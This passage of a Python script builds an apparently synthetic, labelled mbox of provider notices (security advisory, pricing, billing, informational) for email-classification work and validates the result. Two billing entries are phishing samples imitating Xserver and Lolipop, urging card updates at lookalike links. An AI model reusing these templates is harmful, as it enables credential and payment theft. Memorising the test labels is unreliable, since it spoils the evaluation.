    source="https://github.com/GoogleCloudPlatform/professional-services/issues/736",
    orig="2021-12-15", sent="2027-10-29 04:00:00 +0000",
    deadline=None,
    frm="Google Cloud <CloudPlatform-noreply@google.com>",
    to="data-eng@kestrel-analytics.example",
    subject="[Security Advisory] Apache Log4j 2 vulnerability (CVE-2021-44228) and Dataflow",
    text="""Hello Google Cloud customer,

We are tracking CVE-2021-44228, the flaw disclosed in the open source
Apache "Log4j 2" logging library, and our review of which Google Cloud
products and services it touches is not finished yet. The situation is
still developing; expect further messages from us as we learn more.

CVE-2021-44228 affects Apache Log4j versions 2.0 through 2.14.1. Under
certain conditions, Dataflow users may be exposed to it. You should act
right away if your pipelines:
- are written with the Apache Beam Java SDK, and
- bundle log4j-core 2.0 - 2.14.1 directly or through a dependency, or
  run from a Flex Template image built with such a version.

Recommended steps
- Update log4j-core to a fixed release and rebuild your pipelines and
  Flex Templates.
- Drain and relaunch streaming jobs so they pick up the new build.
- Keep an eye on the Google Cloud security bulletins page for updates.

Projects in your organization that ran Java Dataflow jobs in the last
30 days:
  kestrel-etl (kestrel-etl-8841)

The Google Cloud Team
""")

# ================================= pricing =================================

add(label="pricing", provider="Mailgun",
    source="https://github.com/laravel/laravel/pull/5220",
    orig="2020-01-15", sent="2027-10-29 17:00:00 +0000",
    deadline=("shift", "2020-03-01"),
    frm="Mailgun Team <no-reply@mailgun.com>",
    to="billing@quillfeather.example",
    subject="Changes to your Mailgun plan and pricing",
    text="""Hi there,

We are revising Mailgun's plans and prices. The new line-up reflects what
the service now delivers, and it makes room for the deliverability tools
we released recently.

Our last plan change was two years ago. Since then we have shipped a
long list of improvements to sending and to support - much of it
invisible from the outside - and the product has grown well beyond what
it was then.

What does this mean for you?
Your account switches to the new Flex plan on {D:2020-03-01:long}; you do
not have to do anything for that. Flex is pay-as-you-go, much like the
Concept plan you have now. We will send the first Flex invoice on
{D:2020-04-01:long}, and only if it comes to more than $0.50. For
reference: had your {D:2019-12-15:month} traffic been billed at the new rate
of $0.0008 per message, the total would have been $0. We are telling you
anyway because we prefer to be upfront about any change.

What is different on Flex?
Like Concept, Flex bills only for what you send. Two things change: the
monthly allowance of 10,000 free emails and 100 free validations goes
away, and your support access moves to a limited ticket-based level.

Thanks for sending with Mailgun,
The Mailgun Team
""")

add(label="pricing", provider="Netlify",
    source="https://github.com/endoflife-date/endoflife.date/issues/9087",
    orig="2025-12-04", sent="2027-10-30 15:00:00 +0000",
    deadline=None,
    frm="Netlify <team@netlify.com>",
    to="maintainers@versiontrack.example",
    subject="Updates to your Netlify Open Source plan",
    text="""Hi,

Your Open Source plan is being switched over to credit-based billing.
It costs you nothing, now or after the switch, and your day-to-day use of
Netlify stays exactly the same.

What is changing
- Usage on your account is now counted with the credit-based system.
- Web requests, bandwidth, compute, form submissions and production
  deploys stay unlimited on your plan.
- Members and collaborators remain unlimited.
- You get 3,000 credits each month for AI inference, which is the only
  usage that draws on credits.
- You gain access to new platform features, including Agent Runners,
  AI Gateway and built-in analytics.
- We are retiring the legacy billing system your account still uses,
  which is why this update is needed.

If you have questions, contact Netlify support. We are glad to help.

Thanks,
- The Netlify Team

P.S. To stay eligible for the Open Source plan, your site must show a
clear link to Netlify. You can find brand assets at netlify.com/brand.
""")

add(label="pricing", provider="Google Workspace",
    source="https://yoshidumi.co.jp/collaboration-lab/google-workspace-fee-revision",
    orig="2023-03-10", sent="2027-10-04 01:00:00 +0000",
    deadline=("shift", "2023-04-11"),
    frm="Google Workspace <workspace-noreply@google.com>",
    to="admin@minato-shoten.example",
    subject="Google Workspace の料金改定のお知らせ({D:2023-04-11:ja}より)",
    text="""Google Workspace 管理者様

Google Workspace の料金を改定いたします。各製品に継続して導入してきた
新機能を反映するための改定です。

■ 改定の対象と改定幅
・Enterprise Standard(月契約・年契約):約 15% の値上げ
・各プランのフレキシブルプラン(月契約):約 20% の値上げ
  対象: Business Starter / Business Standard / Business Plus /
        Enterprise Essentials / Enterprise Standard / Enterprise Plus /
        Frontline Worker / アーカイブ ユーザー / Google Vault など

■ 適用開始日
・現在 10 ユーザー以上でご利用のお客様:{D:2023-04-11:ja}から
・10 ユーザー未満でご利用のお客様:{D:2024-01-10:ja}から
  ※ご契約期間の途中でユーザー数が 10 以上になった場合は、
    その時点から新料金が適用されます。

■ お客様のご契約
・ドメイン:minato-shoten.example
・プラン:Business Standard(フレキシブルプラン)
・ユーザー数:24
  → {D:2023-04-11:ja}以降のご請求分から新料金が適用されます。

詳しい金額は、Google 管理コンソールの[お支払い]でご確認いただけます。

Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043
このメールは、Google Workspace のご契約に関する重要なお知らせとしてお送りしています。
""")

# ================================= billing =================================

add(label="billing", provider="Netlify",
    source="https://github.com/jenkins-infra/helpdesk/issues/4958",
    orig="2026-01-16", sent="2027-10-05 09:30:00 +0000",
    deadline=("rel", 25),
    frm="Netlify <team@netlify.com>",
    to="infra-admins@quillfeather.example",
    subject="[Netlify] Action required: provide a valid credit card for Quillfeather Infra",
    text="""Please add a valid credit card for Quillfeather Infra

Your subscriptions have reached the end of their billing period and we
have no usable card on file to charge. Unless a valid credit card is
added within 25 days, the team's projects will be suspended. Please add
one for Quillfeather Infra now so the payment can go through.

Update billing details:
https://app.netlify.com/teams/quillfeather-infra/billing/general

Thanks,
The Netlify Team
""")

add(label="billing", provider="Xserver", phish=True,
    source="https://www.xserver.ne.jp/information_detail.php?view_id=6612",
    orig="2021-01-16", sent="2027-10-10 23:48:00 +0900",
    deadline=None,
    frm="Xserver Inc. <support@xserver-billing.example>",
    to="contact@hoshizora-ins.example",
    subject="【XSERVER】ご請求のお支払いを処理できませんでした",
    text="""お客様各位、

現在、XSERVERの最新のご請求書に対するお支払いを処理することが
できませんでした。 アカウントに紐づいた請求情報の期限が
最近切れた可能性がございます。 サービスは切断される予定です。
私たちはお客様にご連絡を試みています。 しかし、ご連絡が取れません。

サービスの中断を避けるために、アカウントの請求情報を
すぐにご確認および更新してください。

https://xserver-billing.example/login_server.php

敬具、

XSERVERIncチーム

P.S. このアドレスは受信を行っておりませんので、このメールには
返信しないでください。 ご連絡は xserver-billing.example/support から
お願いいたします。
""")

add(label="billing", provider="Google Workspace (G Suite)",
    source="https://aventureworld.com/posts/66",
    orig="2021-08-21", sent="2027-10-16 09:00:00 +0000",
    deadline=("shift", "2021-08-22"),
    frm="Google Workspace <workspace-noreply@google.com>",
    to="admin@tanuki-works.example",
    subject="tanuki-works.example でご利用の G Suite Basic サービスが {D:2021-08-22:ja} に Reduce contract で更新されます",
    text="""G Suite Basic の更新日が明日に迫っています

tanuki-works.example でご利用中の G Suite Basic は、{D:2021-08-22:ja} に
Reduce contract(ライセンス数を減らした契約)で自動更新されます。

更新方法を変更する場合は、Google 管理コンソールにログインし、
[お支払い] ページから設定してください。

サブスクリプションの更新について詳しくは、Google Workspace 管理者
ヘルプセンターをご覧ください。ご不明な点がございましたら、
サポートチームまでお気軽にお問い合わせください。

Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043
""")

add(label="billing", provider="Cloudflare",
    source="https://github.com/nodejs/build/issues/3474",
    orig="2023-08-26", sent="2027-10-18 07:10:00 +0000",
    deadline=None,
    frm="Cloudflare <noreply@notify.cloudflare.com>",
    to="build@openrunner.example",
    subject="We were unable to process your renewal payment (Invoice # CFUSA9932018)",
    text="""Hello,

Charging your card for the renewal in invoice # CFUSA9932018 (total:
6.68 USD) did not work. The usual reasons are a replacement card from
your bank, an expired card, or an error on the bank's side. Another
attempt will be made automatically on {D:2023-08-27:long}.

Will my service be affected?

Yes. As of {D:2023-01-18:long}, Cloudflare charges all outstanding invoices
again. If we have not received payment 5 days after an invoice is issued,
your paid services will be downgraded.

Repeated payment problems can interrupt your service. To avoid that,
please take a moment to review or update your billing information. If you
have not added a backup payment method yet, consider adding one so that
future payments do not fail.

Update billing: https://dash.cloudflare.com/?to=/:account/billing

Thanks,
The Cloudflare Team
""")

add(label="billing", provider="ロリポップ! (GMOペパボ)", phish=True,
    source="https://sagi-boushi.net/column/2024/09/12/%E3%83%AD%E3%83%AA%E3%83%9D%E3%83%83%E3%83%97%EF%BC%88lolipop-%E3%82%92%E3%81%8B%E3%81%9F%E3%82%8B%E4%B8%8D%E5%AF%A9%E3%83%A1%E3%83%BC%E3%83%AB%E3%81%AB%E6%B3%A8%E6%84%8F/",
    orig="2024-09-12", sent="2027-10-24 20:14:29 +0900",
    deadline=("rel", 2),
    frm="ロリポップ! <support@lolipop.jp>",
    to="info@kurumi-craft.example",
    subject="【ロリポップ!】《あと2日》次回Webメール決済のお知らせ",
    text="""ロリポップ!をご利用のお客様へ

ご利用中の Webメールサービスの次回決済日まで、あと2日となりました。

現在ご登録のクレジットカードは有効期限が切れている可能性があり、
このままでは決済が完了しない恐れがございます。
決済ができなかった場合、Webメールの送受信が停止されます。

お手数ですが、下記ページよりお支払い情報をご確認・更新ください。

  https://lolipop-payment.example/user/card/update

※本メールは送信専用です。ご返信いただいてもお答えできません。

ロリポップ! サポートセンター
""")

# ============================== informational ==============================

add(label="informational", provider="GitHub",
    source="https://github.com/pypi/warehouse/issues/13761",
    orig="2023-08-08", sent="2027-10-26 19:00:00 +0000",
    deadline=None,
    frm="GitHub <noreply@github.com>",
    to="Dmitri Volkov <dmitri@pkgmirror.example>",
    subject="[GitHub] Two-factor authentication requirement: you're already set",
    text="""Hey dvolkov!

Last year we said that two-factor authentication (2FA) would become
mandatory for people who contribute code on GitHub.com, and we are now
rolling that out group by group. Your account is in the group we are
contacting this round. Good news: 2FA is already active on it.

Nothing is needed from you. Two optional tips:

- Add a second 2FA method, such as a security key or the GitHub Mobile
  app, in case you lose access to your first one.
- Download your recovery codes and keep them somewhere safe.

You can review your settings at https://github.com/settings/security

Thanks for helping keep the software supply chain safe,
The GitHub Team
""")

add(label="informational", provider="Xserver",
    source="https://www.taskmother.com/wordpress/2504.html",
    orig="2025-08-04", sent="2027-10-27 14:00:00 +0900",
    deadline=None,
    frm="エックスサーバー <support@xserver.ne.jp>",
    to="owner@tanuki-works.example",
    subject="【Xserver】PHPバージョンの初期設定値変更のお知らせ",
    text="""━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━
【Xserver】PHPバージョンの初期設定値変更のお知らせ
━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━

いつもエックスサーバーをご利用いただき、誠にありがとうございます。

{D:2025-07-28:ja}以降、サーバーパネルで新しくドメインを追加した際に
選ばれる PHP バージョンの初期値を「PHP8.3」に変更いたしました。

・すでに設定済みのドメインの PHP バージョンは変更されません。
・バージョンはサーバーパネルの「PHP Ver.切替」からいつでも変更できます。
・WordPress の最新版では PHP 8.3 以上の利用が推奨されています。

今後ともエックスサーバーをよろしくお願いいたします。

━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━
エックスサーバー株式会社
━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━
""")

add(label="informational", provider="GitLab",
    source="https://about.gitlab.com/blog/2023/01/04/pat-revocation-coming-soon/",
    orig="2023-01-04", sent="2027-10-28 16:00:00 +0000",
    deadline=None,
    frm="GitLab <gitlab@mg.gitlab.com>",
    to="eng-leads@ridgeback-soft.example",
    subject="Coming soon: GitLab will revoke personal access tokens leaked in public repositories",
    text="""Hello,

GitLab will soon start revoking personal access tokens (PATs)
automatically when Secret Detection finds them in public repositories.
This gives you and your organization better protection.

Leaked PATs are a serious risk: attackers search public repositories for
tokens and use them. It is easy to commit a token by mistake, especially
when you push straight to the main branch without reviewing security
findings first. We are rolling the feature out gradually and letting you
know in advance, because leaked tokens may also be used by automated
systems and will need replacing.

When does revocation happen?
- The project is public and uses Secret Detection.
- The token is committed on the default branch.
- The token carries the glpat- prefix, which PATs have had by default
  since GitLab 14.5. Tokens without the prefix are harder to recognize,
  so we suggest replacing them.

A token found on GitLab.com is dealt with on GitLab.com only; a token
found on a self-managed instance never leaves that instance.

What if my token is revoked?
It was exposed publicly, so treat it as compromised. Create a new one and
use it wherever the old token was configured, such as CI/CD variables.

The GitLab Team
""")

add(label="informational", provider="Fly.io",
    source="https://github.com/zorn/franklin/issues/258",
    orig="2023-05-26", sent="2027-10-29 21:00:00 +0000",
    deadline=None,
    frm="Fly.io <noreply@fly.io>",
    to="Ada Okoro <ada@ledgerwell.example>",
    subject="Your app quiet-harbor-4471 is now on the Fly Apps V2 platform",
    text="""Hello!

We have finished moving your app "quiet-harbor-4471" onto Apps V2, our
Machines-based platform. Apps there tend to run more reliably, give you
finer control, and can cost less. The background is explained in the
"We're Getting off Nomad" post on our community forum.

You do not need to change anything right away. This would be a good
moment, though, to update flyctl and run `fly config save` so that your
fly.toml uses the latest format.

Questions, problems, or something you'd like to show us? The community
forum is the place: https://community.fly.io/

Thanks,
Your friends at Fly.io
""")


# ==========================================================================
# Building
# ==========================================================================

POLICY = email.policy.default.clone(linesep="\n", max_line_length=78)
DEADLINE_RE = re.compile(r"^(none|\d{4}-\d{2}-\d{2})$")
ENVELOPE_RE = re.compile(
    rb"^From \S+@\S+ (Mon|Tue|Wed|Thu|Fri|Sat|Sun) "
    rb"(Jan|Feb|Mar|Apr|May|Jun|Jul|Aug|Sep|Oct|Nov|Dec) \d\d "
    rb"\d\d:\d\d:\d\d \d{4}$")


def resolve(m):
    """Return (sent datetime, expanded subject, expanded text, deadline)."""
    sent = parse_sent(m["sent"])
    orig = _dt.date.fromisoformat(m["orig"])
    delta = sent.date() - orig
    subject = expand(m["subject"], delta, sent.date())
    text = expand(m["text"], delta, sent.date())
    dl = m["deadline"]
    if dl is None:
        deadline = "none"
    elif dl[0] == "shift":
        deadline = (_dt.date.fromisoformat(dl[1]) + delta).isoformat()
    elif dl[0] == "rel":
        deadline = (sent.date() + _dt.timedelta(days=dl[1])).isoformat()
    else:
        raise ValueError(dl)
    return sent, subject, text, deadline


def ordered():
    """Messages in mbox order (by Date header, UTC)."""
    return sorted(MSGS, key=lambda m: parse_sent(m["sent"]).astimezone(
        _dt.timezone.utc))


def envelope_line(addr, sent):
    u = sent.astimezone(_dt.timezone.utc)
    return "From %s %s %s %02d %02d:%02d:%02d %d" % (
        addr, WDAYS[u.weekday()][:3], MONTHS[u.month - 1][:3], u.day,
        u.hour, u.minute, u.second, u.year)


def build_message(idx, m):
    sent, subject, text, deadline = resolve(m)
    addr = parseaddr(m["frm"])[1]
    domain = addr.split("@", 1)[1]
    msg = EmailMessage(policy=POLICY)
    msg["Date"] = email.utils.format_datetime(sent)
    msg["From"] = m["frm"]
    msg["To"] = m["to"]
    msg["Subject"] = subject
    msg["Message-ID"] = "<g3-%02d.%s@%s>" % (
        idx, sent.strftime("%Y%m%d%H%M%S"), domain)
    msg["X-Training-Label"] = m["label"]
    msg["X-Training-Deadline"] = deadline
    if m["phish"]:
        msg["X-Training-Phishing"] = "yes"
    msg.set_content(text, subtype="plain", charset="utf-8",
                    cte="quoted-printable")
    if m["html"]:
        msg.add_alternative(html_from_text(text), subtype="html",
                            charset="utf-8", cte="quoted-printable")
        msg.set_boundary("=_g3_%02d_alternative" % idx)
        msg.set_param("charset", "utf-8")
        for part in msg.iter_parts():
            del part["MIME-Version"]
    raw = msg.as_bytes(policy=POLICY)
    # Python folds a header that does not fit on the first line as
    # "Name:\n value"; join such a value back onto its header line so the
    # value does not start with whitespace (line stays well under 998).
    head, sep, rest = raw.partition(b"\n\n")
    head = re.sub(rb"(?m)^([A-Za-z-]+):\n ", rb"\1: ", head)
    raw = head + sep + rest
    # mboxo quoting of body lines that start with "From "
    lines = raw.split(b"\n")
    lines = [b">" + l if l.startswith(b"From ") else l for l in lines]
    body = b"\n".join(lines)
    if not body.endswith(b"\n"):
        body += b"\n"
    env = envelope_line(addr, sent).encode("ascii")
    return env + b"\n" + body, deadline


def build():
    chunks, meta = [], []
    for idx, m in enumerate(ordered()):
        data, deadline = build_message(idx, m)
        chunks.append(data)
        meta.append((idx, m, deadline))
    with open(OUT, "wb") as fh:
        fh.write(b"\n".join(chunks))
    return meta


# ==========================================================================
# Checking
# ==========================================================================

def check(meta):
    problems = []
    raw = open(OUT, "rb").read()
    if b"\r" in raw:
        problems.append("CR characters found (LF line endings required)")
    lines = raw.split(b"\n")
    n_env = 0
    for i, l in enumerate(lines):
        if l.startswith(b"From "):
            n_env += 1
            if not ENVELOPE_RE.match(l):
                problems.append("bad envelope line %d: %r" % (i + 1, l[:80]))
            if i > 0 and lines[i - 1] != b"":
                problems.append("envelope line %d not preceded by a blank "
                                "line" % (i + 1))
    if n_env != len(meta):
        problems.append("envelope count %d != %d" % (n_env, len(meta)))

    box = mailbox.mbox(OUT, create=False)
    keys = list(box.keys())
    if len(keys) != len(meta) or len(meta) != 60:
        problems.append("message count %d (expected 60)" % len(keys))
    seen_ids = set()
    counts = {}
    for key, (idx, m, deadline) in zip(keys, meta):
        bmsg = box.get_bytes(key)
        hdr_block = bmsg.split(b"\n\n", 1)[0]
        try:
            hdr_block.decode("ascii")
        except UnicodeDecodeError:
            problems.append("#%d: non-ASCII bytes in headers" % idx)
        msg = email.message_from_bytes(bmsg, policy=email.policy.default)
        for h in ("Date", "From", "To", "Subject", "Message-ID",
                  "MIME-Version", "Content-Type", "X-Training-Label",
                  "X-Training-Deadline"):
            if msg[h] is None:
                problems.append("#%d: missing header %s" % (idx, h))
        label = str(msg["X-Training-Label"])
        if label not in LABELS:
            problems.append("#%d: bad label %r" % (idx, label))
        counts[label] = counts.get(label, 0) + 1
        dl = str(msg["X-Training-Deadline"])
        if not DEADLINE_RE.match(dl):
            problems.append("#%d: bad deadline %r" % (idx, dl))
        if dl != deadline:
            problems.append("#%d: deadline %s != expected %s" % (idx, dl,
                                                                deadline))
        ph = msg["X-Training-Phishing"]
        if m["phish"] and str(ph) != "yes":
            problems.append("#%d: phishing header missing" % idx)
        if not m["phish"] and ph is not None:
            problems.append("#%d: unexpected phishing header" % idx)
        d = parsedate_to_datetime(str(msg["Date"]))
        du = d.astimezone(_dt.timezone.utc)
        if (d.year, d.month) != (2027, 10) or (du.year, du.month) != (2027, 10):
            problems.append("#%d: Date not in October 2027: %s" % (idx, d))
        mid = str(msg["Message-ID"])
        if mid in seen_ids:
            problems.append("#%d: duplicate Message-ID" % idx)
        seen_ids.add(mid)
        if msg.get_param("charset") not in ("utf-8",):
            problems.append("#%d: top-level charset is not utf-8" % idx)
        n_text = 0
        for part in msg.walk():
            if part.get_content_maintype() == "multipart":
                continue
            n_text += 1
            if part.get_content_charset() != "utf-8":
                problems.append("#%d: part charset not utf-8" % idx)
            cte = str(part.get("Content-Transfer-Encoding", "7bit")).lower()
            payload = part.get_payload(decode=True)
            try:
                txt = payload.decode("utf-8")
            except UnicodeDecodeError:
                problems.append("#%d: part is not valid UTF-8" % idx)
                continue
            if any(ord(c) > 127 for c in txt) and cte not in (
                    "quoted-printable", "base64"):
                problems.append("#%d: non-ASCII body without QP/base64" % idx)
            if "{D:" in txt or "{R:" in txt:
                problems.append("#%d: unexpanded date token" % idx)
        if n_text == 0:
            problems.append("#%d: no text part" % idx)
        if "{D:" in str(msg["Subject"]):
            problems.append("#%d: unexpanded token in subject" % idx)
    box.close()
    return problems, counts


def readme_rows(meta):
    rows = []
    for idx, m, deadline in meta:
        lab = m["label"] + (" (phishing)" if m["phish"] else "")
        rows.append("| %d | %s | %s | %s | %s |" % (
            idx, lab, deadline, m["provider"], m["source"]))
    return rows


def main():
    meta = build()
    problems, counts = check(meta)
    if "--readme-rows" in sys.argv:
        print("\n".join(readme_rows(meta)))
    print("wrote %s: %d messages" % (OUT, len(meta)))
    for lab in LABELS:
        print("  %-18s %d" % (lab, counts.get(lab, 0)))
    n_ph = sum(1 for _, m, _ in meta if m["phish"])
    n_ja = sum(1 for _, m, _ in meta
               if re.search("[\u3040-\u30ff]", m["subject"] + m["text"]))
    n_dl = sum(1 for _, _, d in meta if d != "none")
    print("  phishing: %d, Japanese: %d, with deadline: %d" % (n_ph, n_ja,
                                                               n_dl))
    n_quoted = sum(1 for l in open(OUT, "rb").read().split(b"\n")
                   if l.startswith(b">From "))
    print("  body lines quoted as '>From ': %d" % n_quoted)
    if problems:
        for p in problems:
            print("PROBLEM:", p, file=sys.stderr)
        return 1
    print("all checks passed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
